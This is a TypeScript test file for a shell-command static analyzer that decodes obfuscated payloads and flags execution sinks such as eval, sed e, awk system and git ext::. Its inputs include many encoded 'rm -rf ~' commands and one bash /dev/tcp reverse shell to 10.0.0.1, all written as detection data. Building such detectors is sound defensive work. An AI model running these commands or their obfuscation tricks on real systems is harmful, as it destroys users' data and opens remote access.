// The static output of producer pipelines, substitutions and same-line variables, and the payload sinks that
// append what they run to the analysis (via the decoder, marked `decoded` when the text was hidden).

import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeShell } from '../../src/shell/unwrap.ts';
import { parseShell } from '../../src/shell/parse.ts';
import { staticStdin, staticStdout, staticText } from '../../src/shell/static-output.ts';
import { staticValue } from '../../src/shell/program.ts';
import type { Analysis } from '../../src/shell/types.ts';

function stdinOfLast(src: string): string | null {
  const a = parseShell(src, { depth: 0 });
  const last = a.commands.filter((c) => !c.inSubstitution).pop()!;
  return staticStdin(a.commands, last)?.text.toString('utf8') ?? null;
}

/** The commands appended by payload sinks: argv, the via chain, and the decoded mark. */
function payloads(src: string): string[] {
  const a: Analysis = analyzeShell(src);
  assert.equal(a.status, 'ok', a.message);
  return a.commands.filter((c) => c.via.length > 0).map((c) => `${c.argv.map((w) => staticValue(w) ?? `<${w.raw}>`).join(' ')} [${c.via.join(' > ')}]${c.decoded ? ' decoded' : ''}`);
}

describe('static output', () => {
  test('producer pipelines through decoders', () => {
    assert.equal(stdinOfLast('echo cm0gLXJmIH4= | base64 -d | sh'), 'rm -rf ~');
    assert.equal(stdinOfLast('echo H4sIAAAAAAAAAyvKVdAtSlOoAwA+LZ7wCAAAAA== | base64 -d | gunzip | sh'), 'rm -rf ~');
    assert.equal(stdinOfLast("printf '\\x72\\x6d' | sh"), 'rm');
    assert.equal(stdinOfLast("echo '~ fr- mr' | rev | sh"), 'rm -rf ~\n');
    assert.equal(stdinOfLast('xxd -r -p <<< 6c73 | sh'), 'ls');
    assert.equal(stdinOfLast("cat <<'EOF' | sh\nrm -rf ~\nEOF"), 'rm -rf ~\n');
    assert.equal(stdinOfLast('sh <<< "$(echo cm0gLXJmIH4= | base64 -d)"'), 'rm -rf ~\n');
  });
  test('unknown stays unknown: files, dynamic words, unmodelled filters, expanding here-docs', () => {
    assert.equal(stdinOfLast('base64 -d payload.b64 | sh'), null);
    assert.equal(stdinOfLast('echo "$P" | base64 -d | sh'), null);
    assert.equal(stdinOfLast('echo cm0= | base64 -d | tee /dev/null | sh'), null);
    assert.equal(stdinOfLast('cat <<EOF | sh\nrm $HOME\nEOF'), null);
    assert.equal(stdinOfLast('echo cm0= > f | sh'), null);
    assert.equal(stdinOfLast('sh < script.sh'), null);
  });
  test('a substitution and a variable of the line', () => {
    const a = parseShell('p=$(echo cm0gLXJmIH4= | base64 -d); eval "$p"', { depth: 0 });
    const ev = a.commands.find((c) => c.argv[0]?.value === 'eval')!;
    const k = staticText(a.commands, ev, ev.argv[1]!);
    assert.equal(k?.text.toString(), 'rm -rf ~');
    assert.deepEqual(k?.decoded, ['base64 -d', '$p']);
    const b = parseShell('p=x; p=y; eval "$p"', { depth: 0 });
    const ev2 = b.commands.find((c) => c.argv[0]?.value === 'eval')!;
    assert.equal(staticText(b.commands, ev2, ev2.argv[1]!), null, 'assigned twice: unknown');
    const c = parseShell("p='echo hi'; read p; eval \"$p\"", { depth: 0 });
    const ev3 = c.commands.find((x) => x.argv[0]?.value === 'eval')!;
    assert.equal(staticText(c.commands, ev3, ev3.argv[1]!), null, 'read may set it: unknown');
    assert.equal(staticStdout(parseShell('echo a b', { depth: 0 }).commands, 0)?.text.toString(), 'a b\n');
  });
});

describe('payload sinks', () => {
  test('decoded shell input enters the analysis via the decoder', () => {
    assert.deepEqual(payloads('echo cm0gLXJmIH4= | base64 -d | sh'), ['rm -rf ~ [base64 -d | sh] decoded']);
    assert.deepEqual(payloads('eval "$(echo cm0gLXJmIH4= | base64 -d)"'), ['rm -rf ~ [base64 -d | eval] decoded']);
    assert.deepEqual(payloads("echo 'echo hi' | sh"), ['echo hi [| sh]'], 'plain text is not marked decoded');
  });
  test('a substitution as the command name', () => {
    assert.deepEqual(payloads('$(echo rm) -rf ~'), ['rm -rf ~ [$(…) as the command] decoded']);
    assert.deepEqual(payloads("x='rm -rf /tmp/a'; $x"), ['rm -rf /tmp/a [split command name] decoded']);
    assert.deepEqual(payloads("x='rm -rf /tmp/a'; \"$x\""), [], 'quoted: one word, not split');
    assert.deepEqual(payloads('IFS=_; x=rm_-rf; $x'), [], 'IFS changed: splitting not modelled');
  });
  test('make, sed, awk, git ext::, source, xargs', () => {
    assert.deepEqual(payloads('echo "all:; rm -rf ~" | make -f -'), ['rm -rf ~ [make -f -]']);
    assert.deepEqual(payloads("make -f <(echo 'all: ; rm -rf ~')"), ['rm -rf ~ [make -f <(…)]']);
    assert.deepEqual(payloads("echo 'rm -rf ~' | sed e"), ['rm -rf ~ [sed e]']);
    assert.deepEqual(payloads('awk \'BEGIN{system("rm -rf ~")}\''), ['rm -rf ~ [awk system]']);
    assert.deepEqual(payloads("git clone 'ext::sh -c rm% -rf% ~' x"), ['sh -c rm -rf ~ [git ext::]', 'rm -rf ~ [git ext:: > sh -c]']);
    assert.deepEqual(payloads('source <(echo cm0gLXJmIH4= | base64 -d)'), ['rm -rf ~ [source <(…)] decoded']);
    assert.deepEqual(payloads('echo cm0gLXJmIH4= | base64 -d | xargs -0 sh -c'), ['sh -c rm -rf ~ [xargs] decoded', 'rm -rf ~ [xargs > sh -c] decoded']);
    assert.deepEqual(payloads("sed 's/a/b/' f"), []);
    assert.deepEqual(payloads("awk '{print $1}' f"), []);
    assert.deepEqual(payloads('make -f Makefile.dev test'), []);
  });
  test('arithmetic runs a subscript of a string built in the line', () => {
    assert.deepEqual(payloads("y=$(printf 'x[$%s]' '(rm -rf ~)'); ((y))"), ['rm -rf ~ [arithmetic subscript] decoded']);
    assert.deepEqual(payloads("x='a[$(rm -rf ~)]'; echo $((x))"), ['rm -rf ~ [arithmetic subscript] decoded']);
    assert.deepEqual(payloads("echo 'a[$(rm -rf ~)]'"), [], 'no arithmetic: text only');
    assert.deepEqual(payloads('i=0; ((i++))'), []);
  });
  test('a shell reading a here-doc does not read it again (used to recurse to too_deep)', () => {
    const a = analyzeShell("bash <<'EOF'\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\nEOF");
    assert.equal(a.status, 'ok');
    assert.equal(a.commands.length, 2);
  });
});
